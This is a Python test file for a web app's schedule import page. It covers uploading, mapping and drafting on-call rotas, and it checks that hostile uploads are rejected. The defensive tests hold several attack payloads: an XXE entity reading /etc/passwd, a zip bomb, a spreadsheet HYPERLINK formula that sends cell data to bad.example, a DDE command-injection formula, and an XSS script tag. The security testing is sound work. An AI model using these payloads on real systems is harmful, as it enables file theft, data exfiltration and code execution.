"""A schedule taken in on its page: looked at, explained, put into the draft; and files that mean no good."""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import AsyncIterator
from html import unescape
from typing import Any

import pytest
from aiohttp import FormData, web
from aiohttp.test_utils import TestClient
from openpyxl import Workbook

from tests.contract.test_rota_pages import look, plain
from tests.support.web_house import WebHouse, web_house

Client = TestClient[web.Request, web.Application]
NIGHT = "person,tier,date,start time,end time\nDr. Lee,primary,2026-12-05,19:00,07:00\n"
ODD = (
    "Wer,Wo,Anfang,Ende\nLeee,Pump 1,2026-12-05 19:00,2026-12-06 07:00\nEgon,Pump 1,2026-12-06 19:00,2026-12-07 07:00\n"
)
ENTITIES = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'


@pytest.fixture
async def house() -> AsyncIterator[WebHouse]:
    made = await web_house()
    await made.publish_first()
    yield made
    await made.close()


@pytest.fixture
async def maria(house: WebHouse) -> Client:
    return await house.api()


async def brought(client: Client, content: bytes | str, name: str = "rota.csv", status: int = 200, **more: str) -> str:
    """The file and the fields as a browser sends them; the page that comes back, or where it leads."""
    form = FormData(more)
    form.add_field("file", io.BytesIO(content if isinstance(content, bytes) else content.encode()), filename=name)
    return await sent(client, form, status)


async def again(client: Client, page: str, status: int = 200, **more: str) -> str:
    """The page's own form, with what is said now."""
    return await sent(client, FormData(fields(page) | more, default_to_multipart=True), status)


async def sent(client: Client, form: FormData, status: int) -> str:
    async with client.post("/rota/import", data=form, allow_redirects=False) as answer:
        assert answer.status == status, plain(await answer.text())[:1500]
        return answer.headers["Location"] if status == 303 else await answer.text()


def fields(page: str) -> dict[str, str]:
    """What is hidden and what is chosen, as a browser would send it."""
    found = dict(re.findall(r'<input type="hidden" name="([^"]+)" value="([^"]*)"', page))
    for name, options in re.findall(r'<select id="[^"]+" name="([^"]+)"[^>]*>(.*?)</select>', page, re.DOTALL):
        if chosen := re.search(r'<option value="([^"]*)" selected', options):
            found[name] = chosen[1]
    return {name: unescape(value) for name, value in found.items()}


async def drafted(house: WebHouse) -> Any:
    return (await house.given.rota_desk.draft("maria")).edits


def workbook(*rows: tuple[Any, ...]) -> bytes:
    book, kept = Workbook(), io.BytesIO()
    for row in rows:
        book.active.append(row)  # type: ignore[union-attr]
    book.save(kept)
    return kept.getvalue()


def zipped(name: str, content: str) -> bytes:
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, content)
    return kept.getvalue()


async def test_a_file_is_looked_at_and_goes_through_the_draft_to_the_preview(house: WebHouse, maria: Client) -> None:
    page = await brought(maria, NIGHT)
    assert "primary: Dr Singh -> Dr Lee. 1 night. Nothing else changes." in plain(page)
    assert await drafted(house) == ()
    assert await again(maria, page, 303, add="yes") == "/rota/preview"
    [one] = await drafted(house)
    assert (one.edit.source, one.by, len(one.edit.covers)) == ("rota.csv", "maria", 1)
    assert "1 cover, taken in from rota.csv" in plain(await look(maria, "/rota/preview"))


async def test_what_the_draft_says_already_is_not_added_again(house: WebHouse, maria: Client) -> None:
    await brought(maria, NIGHT, status=303, add="yes")
    page = await brought(maria, NIGHT)
    assert "The rota says all of this already: nothing to change." in plain(page)
    assert "Put into the draft" not in page
    await again(maria, page, add="yes")
    assert len(await drafted(house)) == 1


async def test_columns_and_names_that_nobody_knows_are_explained_on_the_page(house: WebHouse, maria: Client) -> None:
    page = await sent(maria, FormData({"cells": ODD.replace(",", "\t"), "source": ""}), 200)
    assert "No headings that are understood" in plain(page)
    assert "(--" not in plain(page)
    columns = {"person": "Wer", "tier": "Wo", "start": "Anfang", "end": "Ende"}
    said = {f"column:{role}": heading for role, heading in columns.items()}
    page = await again(maria, page, **said)
    assert {one for one in re.findall(r'<label for="\w+\d">"(.*?)"', page)} == {"Leee", "Egon", "Pump 1"}
    numbers = {unescape(text): name for name, text in re.findall(r'name="(\w+\d+):text" value="([^"]*)"', page)}
    meant = {numbers["Leee"]: "ana", numbers["Egon"]: "-", numbers["Pump 1"]: "pump-team/primary"}
    page = await again(maria, page, **said, **meant)
    assert "-> Dr Lee. 1 night. Nothing else changes." in plain(page)
    await again(maria, page, 303, add="yes")
    [one] = await drafted(house)
    assert [(cover.by, cover.starts) for cover in one.edit.covers] == [("ana", "2026-12-05 19:00")]


async def test_a_name_that_was_understood_may_mean_somebody_else(house: WebHouse, maria: Client) -> None:
    page = await brought(maria, NIGHT)
    number = next(name for name, text in re.findall(r'name="(\w+\d+):text" value="([^"]*)"', page) if "Lee" in text)
    assert "-> Dr Osei. 1 night." in plain(await again(maria, page, **{number: "dia"}))


async def test_each_line_to_mend_says_what_stands_there_and_what_is_wanted(house: WebHouse, maria: Client) -> None:
    page = await brought(maria, NIGHT + "Dr Lee,primary,31/31/2026,19:00,07:00\nDr Lee,primary,2026-12-08,,\n")
    told = plain(page)
    assert re.search(r"Nothing can be added yet: \d things are to mend below", told)
    assert re.search(r"3 31/31/2026 \S", told)
    assert "4 nothing a start time such as 07:00, or hours for all rows" in told
    await again(maria, page, add="yes")
    assert await drafted(house) == ()


async def test_a_workbook_with_a_formula_is_read_as_what_it_showed_last_and_nothing_is_worked_out(
    house: WebHouse, maria: Client
) -> None:
    heads = ("person", "tier", "start", "end")
    formula = '=HYPERLINK("http://bad.example/?"&A2)'
    page = await brought(maria, workbook(heads, (formula, "primary", "2026-12-05 19:00", "2026-12-06 07:00")), "r.xlsx")
    assert "1 rows name nobody and are left out." in plain(page)
    page = await brought(maria, NIGHT.replace("Dr. Lee", "=cmd|' /C calc'!A0"))
    assert "Nothing can be added yet" in plain(page)
    assert await drafted(house) == ()


HOSTILE = (
    (zipped("xl/worksheets/sheet1.xml", "0" * 60_000_000), "unpacks to far more than a schedule"),
    (zipped("[Content_Types].xml", ENTITIES), "damaged"),
    (ENTITIES.encode(), "a web page, not a schedule"),
    (b"x, " * 100_000, "More than 20000 rows or 400 columns"),
    (b"BEGIN:VCALENDAR\nBEGIN:VEVENT\nRRULE:FREQ=SECONDLY\n", "mend"),
)


async def test_a_file_that_means_no_good_is_one_clear_sentence(house: WebHouse, maria: Client) -> None:
    for content, said in HOSTILE:
        page = await brought(maria, content, add="yes")
        assert said in plain(page)
        assert "Put into the draft" not in page
        assert "root:" not in page
    page = await brought(maria, b"a,b\n" * 140_000, status=422)
    assert "more than 512 KB: export a shorter stretch" in plain(page)
    assert await drafted(house) == ()


async def test_more_than_a_mebibyte_is_refused_before_it_is_read(house: WebHouse, maria: Client) -> None:
    page = await brought(maria, b"junk, " * 200_000, status=413)
    assert "more than we take: 1 MiB at most" in plain(page)
    assert await drafted(house) == ()


async def test_nothing_at_all_and_a_broken_form_are_said(maria: Client) -> None:
    assert "Choose a file, or paste" in plain(await sent(maria, FormData({"look": "yes"}), 422))
    assert "did not come along" in plain(await sent(maria, FormData({"content": "%%%"}), 422))
    page = await sent(maria, FormData({"cells": "<script>alert(1)</script>,tier\n<b>x</b>,y\n"}), 200)
    assert "<script>alert" not in page
    assert "<b>x" not in page
